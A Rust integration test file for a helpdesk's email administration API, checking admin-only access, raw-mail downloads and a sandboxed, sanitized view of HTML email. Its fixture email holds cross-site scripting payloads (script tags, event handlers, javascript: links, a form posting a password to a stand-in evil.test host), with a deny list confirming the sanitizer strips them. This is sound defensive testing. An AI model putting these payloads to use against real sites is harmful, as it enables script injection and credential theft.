//! Email: administration over the API (admins only; mailboxes; the received-mail log
//! filtered by state; the raw message served as a download, never rendered;
//! re-processing only what is quarantined), and a hostile HTML email through the real
//! mail pipeline, whose formatting is offered only in a sandboxed frame.

use crate::harness::*;

on_both!(
    agents_cannot_see_mailboxes,
    a_mailbox_address_must_be_an_address,
    a_mailbox_address_is_lowercased_and_listed,
    received_mail_is_listed_by_state,
    an_unknown_mail_state_is_400,
    raw_mail_is_a_download_never_rendered,
    only_quarantined_mail_is_reprocessed,
    a_mailbox_is_deleted,
    the_ticket_page_offers_an_html_mails_formatting_in_a_sandbox,
    a_masked_message_offers_no_formatting,
    the_frame_is_locked_down_by_its_headers,
    the_frame_keeps_words_safe_links_and_inline_pictures_only,
    plain_and_masked_mail_get_a_notice_in_the_frame,
    unknown_mail_in_the_frame_is_404_and_a_bad_id_400,
    only_signed_in_agents_see_the_frame,
);

async fn admin_and_agent(app: &TestApp) -> (String, String) {
    let (_, admin) = app
        .agent("root@example.com", Role::Admin, Experience::Senior)
        .await;
    let (_, agent) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    (admin, agent)
}

const RAW: &[u8] = b"From: <script>@example.com\r\nSubject: hi\r\n\r\n<b>hello</b>\r\n";

/// A message received (stored, not yet processed): its id.
async fn received(app: &TestApp) -> i64 {
    app.store
        .store_inbound_mail(recourse_store::NewInboundMail {
            source: "smtp".into(),
            envelope_from: Some("x@example.com".into()),
            envelope_to: vec!["support@example.com".into()],
            sha256: recourse_web::auth::sha256_hex(String::from_utf8_lossy(RAW).as_bytes()),
            raw: RAW.to_vec(),
            now: Millis(5),
        })
        .await
        .unwrap()
}

async fn agents_cannot_see_mailboxes(app: TestApp) {
    let (_, agent) = admin_and_agent(&app).await;
    assert_eq!(
        app.client(&agent).mailboxes().await.0,
        StatusCode::FORBIDDEN
    );
}

async fn a_mailbox_address_must_be_an_address(app: TestApp) {
    let (admin, _) = admin_and_agent(&app).await;
    let (status, err) = app.client(&admin).create_mailbox("not an address").await;
    assert_eq!(
        (status, code(&err)),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_email"))
    );
}

async fn a_mailbox_address_is_lowercased_and_listed(app: TestApp) {
    let (admin, _) = admin_and_agent(&app).await;
    let api = app.client(&admin);
    let (status, m) = api.create_mailbox("Support@Example.com").await;
    assert_eq!(
        (status, m["address"].as_str()),
        (StatusCode::CREATED, Some("support@example.com"))
    );
    let (_, list) = api.mailboxes().await;
    assert_eq!(list.as_array().unwrap().len(), 1);
}

async fn received_mail_is_listed_by_state(app: TestApp) {
    let (admin, _) = admin_and_agent(&app).await;
    let id = received(&app).await;
    let api = app.client(&admin);
    let (status, log) = api.inbound_mail("received").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(log[0]["id"].as_i64(), Some(id));
    let (_, none) = api.inbound_mail("quarantined").await;
    assert!(none.as_array().unwrap().is_empty());
}

async fn an_unknown_mail_state_is_400(app: TestApp) {
    let (admin, _) = admin_and_agent(&app).await;
    let (status, err) = app.client(&admin).inbound_mail("lost").await;
    assert_eq!(
        (status, code(&err)),
        (StatusCode::BAD_REQUEST, Some("invalid_state"))
    );
}

async fn raw_mail_is_a_download_never_rendered(app: TestApp) {
    let (admin, _) = admin_and_agent(&app).await;
    let id = received(&app).await;
    let resp = app
        .http
        .get(format!("{}/api/v1/mail/inbound/{id}/raw", app.base))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.headers()["content-type"], "message/rfc822");
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    assert_eq!(resp.bytes().await.unwrap().to_vec(), RAW);
}

/// Only quarantined mail can be handed back.
async fn only_quarantined_mail_is_reprocessed(app: TestApp) {
    let (admin, _) = admin_and_agent(&app).await;
    let id = received(&app).await;
    let (status, _) = app.client(&admin).reprocess_mail(id).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

async fn a_mailbox_is_deleted(app: TestApp) {
    let (admin, _) = admin_and_agent(&app).await;
    let api = app.client(&admin);
    let (_, m) = api.create_mailbox("Support@Example.com").await;
    assert_eq!(
        api.delete_mailbox(m["id"].as_i64().unwrap()).await.0,
        StatusCode::NO_CONTENT
    );
}

/// Three mails from Ada through the real pipeline, and the people who look at them.
struct Mails {
    inbound: i64,
    ticket: i64,
    plain_inbound: i64,
    rude_inbound: i64,
    rude_ticket: i64,
    /// Eli's session cookie and API token.
    agent: String,
    agent_token: String,
    /// Session cookies of the sender and of another customer.
    ada: String,
    bo: String,
}

async fn mails(app: &TestApp) -> Mails {
    let pipeline = recourse_mail::Pipeline::new(
        app.store.clone(),
        Arc::new(recourse_mail::MailConfig {
            domain: "desk.test".into(),
            from: "support@desk.test".into(),
            ..recourse_mail::MailConfig::default()
        }),
    );
    let deliver = async |raw: String| {
        let (inbound, state) = pipeline
            .deliver(recourse_mail::Incoming {
                source: "smtp",
                envelope_from: Some("ada@example.com".into()),
                envelope_to: vec!["support@desk.test".into()],
                raw: raw.into_bytes(),
            })
            .await
            .unwrap();
        assert!(
            matches!(
                state,
                Some(recourse_store::MailState::Ticket | recourse_store::MailState::Threaded)
            ),
            "{inbound}: {state:?}"
        );
        let origin = app.store.inbound_mail_origin(inbound).await.unwrap();
        (inbound, origin.ticket_id.unwrap().0)
    };
    let hostile_html = r#"<html><head><title>Order</title><style>body{background:url(http://evil.test/bg)}</style>
<script>window.parent.__pwned = 1</script><link rel="stylesheet" href="http://evil.test/c.css"></head>
<body onload="alert(1)"><p onclick="alert(2)">My <b>kettle</b> arrived <i>broken</i>.</p>
<img src="http://evil.test/track.gif?u=ada" onerror="alert(3)" alt="tracker">
<img src="cid:photo1@ada">
<iframe src="http://evil.test/frame">inside the frame</iframe>
<form action="http://evil.test/steal"><input name="password"><button>Send</button></form>
<a href="javascript:alert(4)">click me</a>
<div style="width:expression(alert(5))">old ie</div>
<div style="background:url(http://evil.test/e.png)">background</div>
<p>The order is <a href="https://shop.example/orders/42">number 42</a>.</p>
</body></html>"#;
    let raw = format!(
        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Broken kettle\r\n\
         Message-ID: <kettle-1@example.com>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
         --rel\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
         --alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nMy kettle arrived broken.\r\n\
         --alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{hostile_html}\r\n--alt--\r\n\
         --rel\r\nContent-Type: image/png\r\nContent-ID: <photo1@ada>\r\n\
         Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--rel--\r\n"
    );
    let (inbound, ticket) = deliver(raw).await;
    // A reply in plain text on the same ticket has no formatting to offer.
    let (plain_inbound, plain_ticket) = deliver(
        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Re: Broken kettle\r\n\
         Message-ID: <kettle-2@example.com>\r\nIn-Reply-To: <kettle-1@example.com>\r\n\r\n\
         Any news? <b>This is not markup.</b>\r\n"
            .into(),
    )
    .await;
    assert_eq!(plain_ticket, ticket, "the reply threads onto the ticket");
    // Abuse stays hidden: its formatting is not a way around the mask.
    let (rude_inbound, rude_ticket) = deliver(
        "From: Ada <ada@example.com>\r\nTo: support@desk.test\r\nSubject: Refund\r\n\
         Message-ID: <rude-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n\
         <p>You are a useless idiot and so is your manager.</p>\r\n"
            .into(),
    )
    .await;

    let (agent_id, agent_token) = app
        .agent("eli@example.com", Role::Agent, Experience::Junior)
        .await;
    let agent = app
        .session_cookie(Principal::Agent(recourse_domain::AgentId(agent_id)))
        .await;
    let mut cookies = Vec::new();
    for email in ["ada@example.com", "bo@example.com"] {
        let c = app
            .store
            .upsert_customer(&EmailAddress::parse(email).unwrap(), None, Millis(1))
            .await
            .unwrap();
        cookies.push(app.session_cookie(Principal::Customer(c.id)).await);
    }
    let bo = cookies.pop().unwrap();
    let ada = cookies.pop().unwrap();
    Mails {
        inbound,
        ticket,
        plain_inbound,
        rude_inbound,
        rude_ticket,
        agent,
        agent_token,
        ada,
        bo,
    }
}

/// GET `path` with a session cookie and/or a bearer token, redirects not followed.
async fn get(
    app: &TestApp,
    cookie: Option<&str>,
    bearer: Option<&str>,
    path: &str,
) -> (StatusCode, reqwest::header::HeaderMap, String) {
    let mut req = app.no_redirect().get(format!("{}{path}", app.base));
    if let Some(c) = cookie {
        req = req.header("cookie", c);
    }
    if let Some(b) = bearer {
        req = req.bearer_auth(b);
    }
    let r = req.send().await.unwrap();
    let status = r.status();
    let headers = r.headers().clone();
    (status, headers, r.text().await.unwrap())
}

fn frame_path(inbound: i64) -> String {
    format!("/console/mail/{inbound}/html")
}

/// The ticket page offers the formatting of the HTML mail only.
async fn the_ticket_page_offers_an_html_mails_formatting_in_a_sandbox(app: TestApp) {
    let m = mails(&app).await;
    let (status, _, page) = get(
        &app,
        Some(&m.agent),
        None,
        &format!("/console/tickets/{}", m.ticket),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let frame = format!(
        r#"<iframe sandbox="allow-popups allow-popups-to-escape-sandbox" src="/console/mail/{}/html""#,
        m.inbound
    );
    assert!(page.contains(&frame), "{page}");
    assert!(page.contains("Show the original formatting"));
    assert!(page.contains(r#"loading="lazy""#) && page.contains(r#"height="420""#));
    assert!(!page.contains("allow-scripts") && !page.contains("allow-same-origin"));
    assert!(
        !page.contains(&frame_path(m.plain_inbound)),
        "plain mail offers no formatting"
    );
    assert_eq!(page.matches("Show the original formatting").count(), 1);
}

async fn a_masked_message_offers_no_formatting(app: TestApp) {
    let m = mails(&app).await;
    let (_, _, rude_page) = get(
        &app,
        Some(&m.agent),
        None,
        &format!("/console/tickets/{}", m.rude_ticket),
    )
    .await;
    assert!(rude_page.contains("This message was hidden"), "{rude_page}");
    assert!(
        !rude_page.contains("/console/mail/"),
        "a masked message offers nothing"
    );
}

async fn the_frame_is_locked_down_by_its_headers(app: TestApp) {
    let m = mails(&app).await;
    let (status, headers, html) = get(&app, Some(&m.agent), None, &frame_path(m.inbound)).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    let csp = headers["content-security-policy"].to_str().unwrap();
    for part in [
        "sandbox allow-popups allow-popups-to-escape-sandbox;",
        "default-src 'none'",
        "img-src data:",
        "style-src 'unsafe-inline'",
        "frame-ancestors 'self'",
        "form-action 'none'",
    ] {
        assert!(csp.contains(part), "{part} missing from {csp}");
    }
    assert!(!csp.contains("script-src") && !csp.contains("frame-ancestors 'none'"));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["referrer-policy"], "no-referrer");
    assert_eq!(headers["cache-control"], "private, no-store");
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
}

/// The frame's page: the words, the safe link and the inline picture; nothing else.
async fn the_frame_keeps_words_safe_links_and_inline_pictures_only(app: TestApp) {
    let m = mails(&app).await;
    let (_, _, html) = get(&app, Some(&m.agent), None, &frame_path(m.inbound)).await;
    let lower = html.to_ascii_lowercase();
    let mut survived = Vec::new();
    for bad in [
        "<script",
        "__pwned",
        "alert(",
        "onload",
        "onclick",
        "onerror",
        "<iframe",
        "inside the frame",
        "<form",
        "<input",
        "<button",
        "javascript:",
        "evil.test",
        "expression",
        "<link",
        "cid:",
    ] {
        if lower.contains(bad) {
            survived.push(bad);
        }
    }
    assert!(survived.is_empty(), "{survived:?} survived:\n{html}");
    assert!(
        html.contains("My <b>kettle</b> arrived <i>broken</i>."),
        "{html}"
    );
    assert!(
        html.contains(r#"<a href="https://shop.example/orders/42" target="_blank" rel="noopener noreferrer">number 42</a>"#),
        "{html}"
    );
    assert!(
        html.contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#),
        "{html}"
    );
    assert!(
        html.contains("Remote images are not loaded (1 left out)"),
        "{html}"
    );
    assert!(html.contains("click me") && html.contains("old ie"));
}

/// Plain mail and masked mail get a notice instead.
async fn plain_and_masked_mail_get_a_notice_in_the_frame(app: TestApp) {
    let m = mails(&app).await;
    let (status, _, html) = get(&app, Some(&m.agent), None, &frame_path(m.plain_inbound)).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("came without formatting") && !html.contains("Any news"),
        "{html}"
    );
    let (status, _, html) = get(&app, Some(&m.agent), None, &frame_path(m.rude_inbound)).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("hidden because it contains abuse") && !html.contains("idiot"),
        "{html}"
    );
}

/// Unknown mail: a 404 in frame form.
async fn unknown_mail_in_the_frame_is_404_and_a_bad_id_400(app: TestApp) {
    let m = mails(&app).await;
    let (status, headers, _) = get(&app, Some(&m.agent), None, "/console/mail/999999/html").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(
        headers["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("frame-ancestors 'self'")
    );
    let (status, _, _) = get(&app, Some(&m.agent), None, "/console/mail/abc/html").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

/// Nobody else: the sender, another customer, a stranger, and an API token (the
/// console signs in by session only) are all sent to sign in, seeing nothing.
async fn only_signed_in_agents_see_the_frame(app: TestApp) {
    let m = mails(&app).await;
    let path = frame_path(m.inbound);
    for (who, cookie, bearer) in [
        ("the sender", Some(m.ada.as_str()), None),
        ("another customer", Some(m.bo.as_str()), None),
        ("a stranger", None, None),
        ("an agent's API token", None, Some(m.agent_token.as_str())),
    ] {
        let (status, headers, body) = get(&app, cookie, bearer, &path).await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{who}");
        assert_eq!(headers["location"], "/login", "{who}");
        assert!(!body.contains("kettle"), "{who}: {body}");
    }
}
